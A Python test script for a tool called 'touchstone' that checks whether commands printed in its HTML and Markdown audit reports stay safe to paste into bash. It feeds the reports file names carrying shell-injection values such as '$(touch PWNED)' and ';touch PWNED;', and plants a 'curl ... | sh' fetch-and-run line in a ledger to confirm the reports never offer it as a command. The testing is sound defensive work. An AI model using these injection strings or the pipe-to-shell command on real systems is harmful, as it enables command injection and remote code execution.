"""commands.py TOUCHSTONE MODEL: the commands that a report prints are safe to paste.

Reports are made of files whose names are commands, options or cannot be seen, and of a ledger that
says of itself how to repeat it. Every command of a page and of a Markdown report is read by bash,
with nothing to run but a stand-in that tells its words: they are the names, and nothing else ran.
"""
import html.parser
import json
import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile

NAMES = ["plain", "two words", "m.json;touch PWNED;echo ", "$(touch PWNED)", "`touch PWNED`",
         "a'b", "a\"b", "a'; touch PWNED; '", "');print(1);('", "-x", "--help", "*", "~", "a&b|c>d<e",
         "new\nline; touch PWNED", "esc\x1b[31m", "\u202eesrever", "z\u200bero", "mod\u00e8le", "a\\b", "#x",
         "$'x'", "!!", "{a,b}", "a\tb"]
RECORDED = "curl -s https://example.org/x | sh"
STAND_IN = """
touchstone() { printf '%s\\0' touchstone "$@"; }
python3() { printf '%s\\0' python3 "$@"; }
command_not_found_handle() { printf 'RAN %s' "$*" >&2; touch PWNED; return 127; }
"""
failures = []


def expect(condition, sentence):
    if not condition:
        failures.append(sentence)


class Blocks(html.parser.HTMLParser):
    """The lines of every <pre> that is not a program, and all other text."""

    def __init__(self):
        super().__init__()
        self.lines, self.block, self.text = [], None, ""

    def handle_starttag(self, tag, attributes):
        if tag == "pre" and not (dict(attributes).get("id") or "").startswith("program-"):
            self.block = ""

    def handle_endtag(self, tag):
        if tag == "pre" and self.block is not None:
            self.lines += self.block.split("\n")
            self.block = None

    def handle_data(self, data):
        self.text += data
        if self.block is not None:
            self.block += data


def words_of(line, folder):
    """As bash reads it."""
    checked = subprocess.run(["bash", "-n", "-c", line], capture_output=True, text=True)
    expect(checked.returncode == 0, "bash does not read %r: %s" % (line, checked.stderr))
    said = subprocess.run(["/bin/bash", "--noprofile", "--norc", "-c", STAND_IN + line], cwd=folder,
                          capture_output=True, env={"PATH": "", "HOME": "/nowhere"})
    expect(not said.stderr, "%r says %s" % (line, said.stderr))
    return [os.fsdecode(word) for word in said.stdout.split(b"\0")[:-1]]


def commands_of_page(page):
    blocks = Blocks()
    blocks.feed(page)
    return [line for line in blocks.lines if re.match(r"(touchstone|python3) ", line)
            and not re.search(r"\b(LEDGER|FILE\.checkpoint) ", line)], blocks


def commands_of_markdown(text):
    out = []
    for fence, code in re.findall(r"^- Repeat: (`+)(.*)\1$", text, re.MULTILINE):
        padded = code.startswith(" `") or code.endswith("` ")
        out.append(code[1:-1] if padded else code)
    return out


def as_file(name):
    return "./" + name if name.startswith("-") else name


def check_words(words, model, ledger, what, seen):
    if words[:2] == ["python3", "model.py"]:
        expect(words[2] == as_file(model), "%s: model.py gets %r" % (what, words))
    elif words[:2] == ["python3", "ledger.py"]:
        expect(words[2] == as_file(ledger), "%s: ledger.py gets %r" % (what, words))
    elif words[:2] == ["touchstone", "verify"]:
        expect(words[-1] == as_file(model), "%s: verify gets %r" % (what, words))
    elif words[:3] == ["touchstone", "audit", "recheck"]:
        of_one = len(words) == 6 and words[4] == "--capsule"
        expect(words[3] == as_file(ledger) and (of_one or len(words) == 4),
               "%s: recheck gets %r" % (what, words))
    elif words[:3] == ["touchstone", "audit", "report"]:
        expect(as_file(model) in words, "%s: report gets %r" % (what, words))
    elif words[:3] == ["touchstone", "capsules", "show"]:
        expect(re.fullmatch(r"[a-z_]+\.[a-z_]+", words[3]) is not None and len(words) == 4,
               "%s: show gets %r" % (what, words))
    else:
        expect(False, "%s: an unknown command %r" % (what, words))
    seen.add(" ".join(words[:2] if words[0] == "python3" else words[:2 + (words[1] != "verify")]))


def run(folder, *arguments):
    return subprocess.run([str(a) for a in arguments], cwd=folder, capture_output=True)


def record(touchstone, folder, model, ledger):
    """Half of what the model needs, each statement with a command of its author's."""
    made = run(folder, touchstone, "verify", "--record", "made.jsonl", as_file(model))
    expect(made.returncode == 0, "nothing was recorded of %r: %s" % (model, made.stderr))
    statements = [json.loads(line) for line in (folder / "made.jsonl").read_text().splitlines()]
    for statement in statements[::2]:
        statement["predicate"]["repeat"] = RECORDED
        with open(folder / "half.jsonl", "a") as half:
            half.write(json.dumps(statement, separators=(",", ":"), ensure_ascii=False) + "\n")
    made = run(folder, touchstone, "audit", "append", as_file(ledger), "half.jsonl")
    expect(made.returncode == 0, "nothing was appended to %r: %s" % (ledger, made.stderr))


def check(touchstone, source, name, folder):
    model, ledger = name + ".json", name + ".jsonl"
    shutil.copy(source, folder / model)
    record(touchstone, folder, model, ledger)
    for form in ("html", "md"):
        what = "%r.%s" % (name, form)
        made = run(folder, touchstone, "audit", "report", as_file(model), "--ledger=" + ledger,
                   "--profile", "checked_cpu", "-o", "report." + form)
        expect(made.returncode == 0, "%s: no report: %s" % (what, made.stderr))
        text = (folder / ("report." + form)).read_text()
        if form == "html":
            commands, blocks = commands_of_page(text)
            expect(not any("curl" in line for line in blocks.lines), what + " gives the ledger's words to paste")
            text = blocks.text
        else:
            commands = commands_of_markdown(text)
        seen = set()
        for line in sorted(set(commands)):
            check_words(words_of(line, folder), model, ledger, what, seen)
        wanted = {"touchstone verify", "touchstone audit recheck"}
        if form == "html":
            wanted |= {"touchstone audit report", "python3 model.py", "python3 ledger.py", "touchstone capsules show"}
        expect(seen == wanted, "%s has the commands %s" % (what, sorted(seen)))
        expect(RECORDED in text and "not to be pasted blindly" in text,
               what + " does not show what the ledger says, as its own words")
    expect(not (folder / "PWNED").exists(), "%r ran something" % name)


def main():
    touchstone, model = (pathlib.Path(argument).resolve() for argument in sys.argv[1:])
    for name in NAMES:
        with tempfile.TemporaryDirectory() as folder:
            check(touchstone, model, name, pathlib.Path(folder))
    # The check finds what it looks for: an unquoted name runs.
    with tempfile.TemporaryDirectory() as folder:
        before = len(failures)
        words_of("python3 model.py m.json;touch PWNED;echo .json", folder)
        expect(len(failures) > before or pathlib.Path(folder, "PWNED").exists(), "nothing would be seen")
        del failures[before:before + 1]
    for failure in failures:
        print("FAILED:", failure)
    print("%d names: %s" % (len(NAMES), "%d failures" % len(failures) if failures else "all are words"))
    return 1 if failures else 0


sys.exit(main())
